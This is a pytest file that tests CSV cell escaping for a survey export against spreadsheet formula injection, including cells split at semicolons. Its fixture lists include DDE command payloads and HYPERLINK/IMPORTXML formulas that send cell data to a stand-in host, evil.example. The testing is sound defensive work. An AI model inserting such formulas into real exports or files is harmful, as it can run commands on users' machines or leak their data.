"""Nothing that we hand out is run by a spreadsheet, and what comes back is what was written."""

from __future__ import annotations

import csv
import io

import pytest

from surveys.exporting.cells import csv_file, plain_cell, safe_cell

FORMULAS = (
    *("=1+1", "+44 20", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "=cmd|' /C calc'!A0"),
    *("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", '=IMPORTXML("http://evil.example","//a")', "\x00=1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "-2+3+cmd|' /C calc'!D2", "+cmd|'/C calc'!A0"),
)  # fmt: skip
HIDDEN_FORMULAS = (
    *("=1+1", "@SUM(A1)", "+cmd|'/C calc'!A0", "- cmd|'/C calc'!A0", "\uff1d1", "\uff0b1", "=cmd|'/C calc'!A1"),
    *("-(1+1)", "--1", "-'http://evil.example/[a.xlsx]b'!A1", '-"1"&A1'),
)  # fmt: skip
BEGINS_ONE = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
KIND = (
    "fine = fine",
    "a-b",
    "1 - 2",
    "It is late ;-)",
    "Late\n:-)\n;-)",
    "one\n\n(two)\n3 - 2",
    "x@example.org",
    "",
    "'quoted'",
    "ۓ",
    "ok; = is a sign later",
)


def is_run(cell: str) -> bool:
    return bool(cell.strip("\x00")) and (cell[0] in BEGINS_ONE or cell.strip("\x00 \u00a0")[:1] in BEGINS_ONE)


class TestCells:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_no_formula_begins_a_cell(self, formula: str) -> None:
        assert not is_run(safe_cell(formula))
        assert plain_cell(safe_cell(formula)) == formula
        assert safe_cell(safe_cell(formula)) == safe_cell(formula)

    @pytest.mark.parametrize("formula", HIDDEN_FORMULAS)
    @pytest.mark.parametrize("edge", [";", ";  ", ';"', ';""', "\t", "\n", "\r", "\r\n", "\n\n ", '\n"'])
    def test_nor_where_another_country_sees_the_edge_of_a_cell(self, formula: str, edge: str) -> None:
        """With decimals in commas, spreadsheets cut at semicolons, whatever stands in quotation marks before."""
        words = f"kind words{edge}{formula};"
        line = csv_file([["1", words, "2"]]).decode("utf-8-sig")
        for separator in (",", ";", "\t"):
            for cells in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
                assert not [cell for cell in cells if is_run(cell.lstrip("\r\n"))], separator
        assert plain_cell(safe_cell(words)) == words
        assert safe_cell(safe_cell(words)) == safe_cell(words)

    @pytest.mark.parametrize("edges", ["\t", ";", "\n", "\n- ", '; "', "\r\n\x00"])
    def test_a_text_of_edges_alone_holds_nobody_up(self, edges: str) -> None:
        text = edges * 100_000
        assert plain_cell(safe_cell(text)) == text

    @pytest.mark.parametrize("text", KIND)
    def test_other_words_stay_as_they_are(self, text: str) -> None:
        if "; =" not in text:
            assert safe_cell(text) == text
        assert plain_cell(text) == text

    def test_numbers_stay_numbers(self) -> None:
        assert [safe_cell(value) for value in (-5, -0.5, None, 7)] == ["-5", "-0.5", "", "7"]
